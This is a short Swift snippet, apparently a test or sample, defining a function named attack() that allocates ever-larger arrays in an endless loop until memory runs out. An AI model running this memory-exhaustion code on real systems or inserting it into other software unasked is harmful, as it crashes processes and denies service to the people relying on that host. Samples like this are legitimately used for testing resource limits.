private func attack() {
  var all: [[Int]] = []
  while true { all.append(Array(repeating: all.count, count: 1 << 20)) }
}
